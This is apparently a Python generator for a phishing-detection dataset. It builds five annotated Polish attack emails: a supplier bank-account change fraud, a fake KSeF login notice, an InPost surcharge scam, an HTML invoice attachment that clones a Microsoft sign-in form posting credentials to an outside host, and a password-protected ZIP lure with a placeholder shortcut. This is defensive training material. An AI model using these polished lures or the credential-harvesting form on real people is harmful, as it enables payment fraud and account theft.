"""Attack messages 22-26 (Polish)."""
from eglib import mime, bank, html as H
from eglib.infra import Roundcube, SendGrid, PHPMailerSite, OutlookSMTP, rhex, ralnum
from eglib.kit import attack, alt, mixed, att, pdf, zipfile_bytes, b64mail, PLACEHOLDER, S


@attack(22, 'pl', 'partner-logistik-lookalike-zmiana-rachunku',
        what='"Tadeusz Zieli\u0144ski" informs the Warsaw accountant that the PKO BP account is closed and asks to pay two invoices (27,845.60 PLN) to a new mBank account, without split payment.',
        why='Supplier bank-detail fraud from look-alike partner-logistic.pl (genuine partner-logistik.pl), Roundcube on an OVH VPS; admits the account is not yet on the VAT '
            '"white list" and asks to skip the split-payment mechanism (both strong Polish red flags); confirmation by e-mail only.')
def _(m):
    m.use(Roundcube(helo='mail.partner-logistic.pl', rdns='vps-2b9a1c3d.vps.ovh.net', ip='146.59.118.42'))
    m.when('2026-10-29 12:14:56', 'pl')
    m.frm = ('Tadeusz Zieli\u0144ski', 't.zielinski@partner-logistic.pl')
    m.to = [S('pl_acc')]
    m.subject = 'Zmiana numeru rachunku bankowego \u2013 Partner Logistik sp. z o.o.'
    ib = bank.pl_iban('1140200', '0040000230981472')
    nrb = bank.pl_nrb(ib)
    t = """Dzie\u0144 dobry Panie Pawle,

uprzejmie informuj\u0119, \u017ce w zwi\u0105zku ze zmian\u0105 banku obs\u0142uguj\u0105cego nasz\u0105 sp\u00f3\u0142k\u0119 z dniem 1 listopada 2026 r. zamykamy rachunek prowadzony w PKO BP. Prosimy o regulowanie wszystkich nale\u017cno\u015bci, w tym faktur FV/2026/10/0377 i FV/2026/10/0412 (\u0142\u0105cznie 27 845,60 z\u0142 brutto), na nowy rachunek:

mBank S.A.
%s
Odbiorca: Partner Logistik sp. z o.o.

Nowy rachunek zostanie zg\u0142oszony do wykazu podatnik\u00f3w VAT (tzw. bia\u0142ej listy) w ci\u0105gu kilku dni roboczych, dlatego do tego czasu prosimy o p\u0142atno\u015b\u0107 zwyk\u0142ym przelewem, bez mechanizmu podzielonej p\u0142atno\u015bci.

W za\u0142\u0105czeniu przesy\u0142am pismo podpisane przez Zarz\u0105d. Bardzo prosz\u0119 o potwierdzenie zmiany w systemie mailowo.

Z powa\u017caniem
Tadeusz Zieli\u0144ski
Key Account Manager
Partner Logistik sp. z o.o.
ul. Gda\u0144ska 120, 61-123 Pozna\u0144
""" % nrb
    blocks = [('h1', 'Partner Logistik sp. z o.o.'), ('small', 'ul. Gda\u0144ska 120, 61-123 Pozna\u0144 \u2022 NIP 7792468135 \u2022 KRS 0000587312'),
              ('gap', ''), ('p', 'Pozna\u0144, 28.10.2026'), ('p', 'Example Group Polska sp. z o.o.\nul. Chmielna 73\n00-801 Warszawa'),
              ('h2', 'Zawiadomienie o zmianie rachunku bankowego'),
              ('p', 'Niniejszym informujemy, \u017ce od dnia 1 listopada 2026 r. w\u0142a\u015bciwym rachunkiem do regulowania nale\u017cno\u015bci na rzecz Partner Logistik sp. z o.o. jest:'),
              ('b', 'mBank S.A.   ' + nrb),
              ('p', 'Dotychczasowy rachunek w PKO Banku Polskim S.A. zostaje zamkni\u0119ty. Prosimy o aktualizacj\u0119 danych w Pa\u0144stwa systemie.'),
              ('p', 'Za Zarz\u0105d:\nMarek Wi\u015bniewski \u2013 Prezes Zarz\u0105du')]
    p = pdf(m, blocks, 'Zawiadomienie o zmianie rachunku', lang='pl-PL', creator='Microsoft\u00ae Word 2016', producer='Smallpdf.com')
    m.root = mixed(m, mime.text(t, 'utf-8', 'quoted-printable', extra='; format=flowed', case='UTF-8'),
                   att(m, p, 'application/pdf', 'Pismo_zmiana_rachunku_Partner_Logistik.pdf'))


@attack(23, 'pl', 'ksef-phishing-token',
        what='"Krajowy System e-Faktur" claims three structured invoices await recipient verification and asks to log in with Profil Zaufany or a KSeF token within 72 hours.',
        why='E-invoicing credential phishing: look-alike domain ksef-powiadomienia.pl sent via SendGrid with click tracking, invented legal obligation and access block; '
            'KSeF does not e-mail login links; aims at KSeF tokens / trusted-profile credentials.')
def _(m):
    m.use(SendGrid(whitelabel='em7731.ksef-powiadomienia.pl', ip='149.72.120.44', uid='38817265'))
    m.when('2026-11-13 08:02:19', 'pl')
    m.frm = ('Krajowy System e-Faktur (KSeF)', 'powiadomienia@ksef-powiadomienia.pl')
    m.to = [S('pl_acc')]
    m.subject = 'KSeF: faktury ustrukturyzowane oczekuj\u0105 na weryfikacj\u0119 odbiorcy (NIP 5252847313)'
    link = 'https://u38817265.ct.sendgrid.net/ls/click?upn=u001.%s' % ralnum(m.rng, 120)
    t = """Ministerstwo Finans\u00f3w - Krajowy System e-Faktur

Szanowni Pa\u0144stwo,

w Krajowym Systemie e-Faktur zarejestrowano 3 faktury ustrukturyzowane wystawione na NIP 5252847313 (EXAMPLE GROUP POLSKA SP. Z O.O.), kt\u00f3rych odbi\u00f3r nie zosta\u0142 potwierdzony przez uprawnion\u0105 osob\u0119.

W celu zachowania ci\u0105g\u0142o\u015bci dost\u0119pu do faktur nale\u017cy w ci\u0105gu 72 godzin uwierzytelni\u0107 si\u0119 w Aplikacji Podatnika KSeF przy u\u017cyciu profilu zaufanego, podpisu kwalifikowanego lub tokenu KSeF i potwierdzi\u0107 uprawnienia odbiorcy. Po up\u0142ywie terminu dost\u0119p do faktur zakupowych zostanie czasowo zablokowany.

Zaloguj si\u0119 do Aplikacji Podatnika KSeF:
%s

Wiadomo\u015b\u0107 zosta\u0142a wygenerowana automatycznie. Prosimy na ni\u0105 nie odpowiada\u0107.
Ministerstwo Finans\u00f3w, ul. \u015awi\u0119tokrzyska 12, 00-916 Warszawa
""" % link
    body = H.p("""Szanowni Pa\u0144stwo,

w Krajowym Systemie e-Faktur zarejestrowano 3 faktury ustrukturyzowane wystawione na NIP 5252847313 (EXAMPLE GROUP POLSKA SP. Z O.O.), kt\u00f3rych odbi\u00f3r nie zosta\u0142 potwierdzony przez uprawnion\u0105 osob\u0119.

W celu zachowania ci\u0105g\u0142o\u015bci dost\u0119pu do faktur nale\u017cy w ci\u0105gu 72 godzin uwierzytelni\u0107 si\u0119 w Aplikacji Podatnika KSeF przy u\u017cyciu profilu zaufanego, podpisu kwalifikowanego lub tokenu KSeF i potwierdzi\u0107 uprawnienia odbiorcy. Po up\u0142ywie terminu dost\u0119p do faktur zakupowych zostanie czasowo zablokowany.""")
    h = H.notice('Faktury oczekuj\u0105 na weryfikacj\u0119 odbiorcy', body, 'Zaloguj si\u0119 do KSeF', link, color='#c8102e', lang='pl',
                 logo_html='<span style="font-weight:700;color:#c8102e">Ministerstwo Finans\u00f3w</span> <span style="color:#555;font-size:13px">| Krajowy System e-Faktur</span>',
                 footer='Wiadomo\u015b\u0107 zosta\u0142a wygenerowana automatycznie. Prosimy na ni\u0105 nie odpowiada\u0107.<br>Ministerstwo Finans\u00f3w, ul. \u015awi\u0119tokrzyska 12, 00-916 Warszawa')
    m.root = alt(m, mime.text(t, 'utf-8', 'quoted-printable'), mime.text(h, 'utf-8', 'quoted-printable', 'html'))


@attack(24, 'pl', 'inpost-doplata-paczka',
        what='"InPost" says a parcel is held until a 1.99 PLN surcharge for address correction is paid online.',
        why='Courier payment phishing: InPost display name on a guest-house domain, PHPMailer on a shared host (web-server user), link to inpost-doplata.com '
            'collecting card data; tiny amount and parcel-return threat.')
def _(m):
    m.use(PHPMailerSite(helo='s59.cyber-folks.pl', rdns='s59.cyber-folks.pl', ip='195.78.67.59', site='pensjonat-pod-lipami.pl', zone='pl'))
    m.when('2026-12-03 17:39:41', 'pl')
    m.frm = ('InPost', 'powiadomienia@pensjonat-pod-lipami.pl')
    m.to = [S('pl_mgr')]
    m.subject = 'Twoja paczka czeka na dop\u0142at\u0119 \u2013 nr 620512347781004512398846'
    m.hcs, m.henc = 'iso-8859-2', 'Q'
    link = 'https://inpost-doplata.com/p/?n=620512347781004512398846&r=%s' % rhex(m.rng, 10)
    t = """InPost

Dzie\u0144 dobry,

Twoja przesy\u0142ka nr 620512347781004512398846 nie mog\u0142a zosta\u0107 dostarczona do wybranego Paczkomatu z powodu niepe\u0142nego adresu. Aby kurier m\u00f3g\u0142 ponownie dor\u0119czy\u0107 paczk\u0119, ureguluj op\u0142at\u0119 za korekt\u0119 danych w wysoko\u015bci 1,99 z\u0142.

Zap\u0142a\u0107 i wybierz nowy termin dor\u0119czenia: %s

Je\u015bli op\u0142ata nie zostanie uregulowana w ci\u0105gu 48 godzin, przesy\u0142ka wr\u00f3ci do nadawcy.

Zesp\u00f3\u0142 InPost
""" % link
    h = ("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head>
<body style="font-family:Arial,sans-serif;background:#f2f2f2">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#ffcd00;padding:16px 24px;font-size:24px;font-weight:bold;color:#404041">InPost</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#333">
<p>Dzie\u0144 dobry,</p>
<p>Twoja przesy\u0142ka nr <b>620512347781004512398846</b> nie mog\u0142a zosta\u0107 dostarczona do wybranego Paczkomatu z powodu niepe\u0142nego adresu. Aby kurier m\u00f3g\u0142 ponownie dor\u0119czy\u0107 paczk\u0119, ureguluj op\u0142at\u0119 za korekt\u0119 danych w wysoko\u015bci <b>1,99 z\u0142</b>.</p>
<p style="text-align:center;margin:26px 0"><a href="%s" style="background:#404041;color:#ffcd00;padding:12px 30px;text-decoration:none;font-weight:bold">Zap\u0142a\u0107 1,99 z\u0142</a></p>
<p>Je\u015bli op\u0142ata nie zostanie uregulowana w ci\u0105gu 48 godzin, przesy\u0142ka wr\u00f3ci do nadawcy.</p>
<p>Zesp\u00f3\u0142 InPost</p>
</td></tr></table></body></html>
""" % link)
    m.root = alt(m, mime.text(t, 'iso-8859-2', 'quoted-printable'), mime.text(h, 'iso-8859-2', 'quoted-printable', 'html'))


@attack(25, 'pl', 'html-zalacznik-kompromitowany-serwis-hvac',
        what='The real HVAC contractor mailbox sends "Faktura FV/412/11/2026" as an HTML file that shows a Microsoft sign-in form pre-filled with the accountant\'s address.',
        why='Credential phishing via HTML attachment from a compromised genuine correspondent (Termo-Serwis Kowalski, home.pl): the "invoice" is a local Microsoft '
            'login clone whose form posts to onrender.com; "log in with your company e-mail to open" is never needed for an invoice (compare the genuine reminder, business 23).')
def _(m):
    m.use(OutlookSMTP(hoster='homepl', host='serwer2387614.home.pl', desktop='DESKTOP-HV8K21P', origin='5.173.244.19', origin_rdns='5.173.244.19.nat.umts.dynamic.t-mobile.pl',
                      client_t=('serwer2387614.home.pl', 'serwer2387614.home.pl', '46.242.244.91'), hcs='windows-1250', content_lang='pl', sender_zone='pl'))
    m.when('2026-11-23 10:21:33', 'pl')
    m.frm = ('Termo-Serwis Kowalski', 'biuro@termoserwis-kowalski.pl')
    m.to = [S('pl_acc')]
    m.subject = 'Faktura FV/412/11/2026 \u2013 przegl\u0105d instalacji HVAC'
    t = """Dzie\u0144 dobry,

w za\u0142\u0105czeniu przesy\u0142amy faktur\u0119 za listopadowy przegl\u0105d instalacji wentylacji i klimatyzacji w budynku przy ul. Chmielnej 73. Dokument jest zabezpieczony \u2013 aby go otworzy\u0107, prosz\u0119 zalogowa\u0107 si\u0119 s\u0142u\u017cbowym adresem e-mail.

Pozdrawiamy
Biuro Termo-Serwis Kowalski sp.j.
ul. Po\u0142czy\u0144ska 31, 01-377 Warszawa
tel. 22 664 18 20
"""
    victim = S('pl_acc')[1]
    page = ("""<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>Zaloguj si\u0119 do konta</title>
<style>
body{margin:0;background:#f2f2f2 linear-gradient(135deg,#e8eef5,#f7f7f7);font-family:"Segoe UI",Arial,sans-serif}
.card{width:440px;margin:90px auto;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px}
.logo{font-size:15px;color:#5e5e5e;font-weight:600;margin-bottom:16px}
h1{font-size:24px;font-weight:600;margin:0 0 12px 0;color:#1b1b1b}
input{width:100%%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:8px 0 16px 0}
button{background:#0067b8;color:#fff;border:0;padding:8px 34px;font-size:15px;float:right}
.doc{font-size:13px;color:#444;background:#f4f8fc;border:1px solid #d6e3f0;padding:8px;margin-bottom:16px}
</style></head>
<body><div class="card">
<div class="logo">Microsoft</div>
<div class="doc">FV_412_11_2026.pdf (148 KB) &ndash; udost\u0119pniony przez biuro@termoserwis-kowalski.pl</div>
<h1>Zaloguj si\u0119, aby wy\u015bwietli\u0107 dokument</h1>
<form method="post" action="https://office-docview-pl.onrender.com/api/v2/session">
<input type="email" name="login" value="%s">
<input type="password" name="passwd" placeholder="Has\u0142o">
<input type="hidden" name="ref" value="FV412">
<button type="submit">Zaloguj</button>
</form>
<p style="clear:both;font-size:12px;color:#666;padding-top:24px">Ze wzgl\u0119d\u00f3w bezpiecze\u0144stwa wymagane jest ponowne potwierdzenie to\u017csamo\u015bci.</p>
</div></body></html>
""" % victim).encode('utf-8')
    m.root = mixed(m, alt(m, mime.text(t, 'windows-1250', 'quoted-printable'), mime.text(H.outlook(t, 'PL'), 'windows-1250', 'quoted-printable', 'html')),
                   att(m, page, 'text/html', 'FV_412_11_2026.html'))


@attack(26, 'pl', 'zus-e-zla-zip-haslo',
        what='"ZUS \u2013 PUE" claims a new e-ZLA sick note for an employee is available in an encrypted archive; password given in the body.',
        why='Malware lure: look-alike domain zus-pue.com.pl on shared hosting (Exim), ZipCrypto archive containing a ".pdf.lnk" shortcut, password in the body '
            'to evade scanning; ZUS makes e-ZLA available inside PUE/eZUS and never sends them as archives.')
def _(m):
    m.use(OutlookSMTP(hoster='exim', host='h33.hostido.net.pl', origin='91.219.236.18',
                      client_t=('h33.hostido.net.pl', 'h33.hostido.net.pl', '31.186.83.33'), hcs='windows-1250', henc='B', content_lang='pl', sender_zone='pl'))
    m.when('2026-12-07 08:47:02', 'pl')
    m.frm = ('ZUS \u2013 Platforma Us\u0142ug Elektronicznych', 'powiadomienia@zus-pue.com.pl')
    m.to = [S('pl_mgr')]
    m.subject = 'PUE ZUS: nowe za\u015bwiadczenie lekarskie e-ZLA dla p\u0142atnika (ID 5723/12/2026)'
    m.zip_pw = 'ZUS5723'
    t = """Szanowni Pa\u0144stwo,

na profilu p\u0142atnika sk\u0142adek EXAMPLE GROUP POLSKA SP. Z O.O. na Platformie Us\u0142ug Elektronicznych ZUS udost\u0119pniono nowe za\u015bwiadczenie lekarskie e-ZLA dotycz\u0105ce ubezpieczonego pracownika.

Ze wzgl\u0119du na ochron\u0119 danych o stanie zdrowia dokument przekazujemy w zaszyfrowanym archiwum.

Has\u0142o do archiwum: ZUS5723

Prosimy o zapoznanie si\u0119 z za\u015bwiadczeniem w ci\u0105gu 7 dni. W przypadku stwierdzenia nieprawid\u0142owo\u015bci p\u0142atnik mo\u017ce wyst\u0105pi\u0107 o kontrol\u0119 zwolnienia lekarskiego.

Z powa\u017caniem
Zak\u0142ad Ubezpiecze\u0144 Spo\u0142ecznych
Centrum Obs\u0142ugi Telefonicznej: 22 560 16 00
"""
    z = zipfile_bytes(m, [('e-ZLA_5723_12_2026.pdf.lnk', PLACEHOLDER)], password=m.zip_pw.encode())
    a = att(m, z, 'application/x-zip-compressed', 'e-ZLA_5723_12_2026.zip')
    a.meta['note'] = ' (ZipCrypto, password in body; member e-ZLA_5723_12_2026.pdf.lnk)'
    m.root = mixed(m, mime.text(t, 'windows-1250', 'base64'), a)
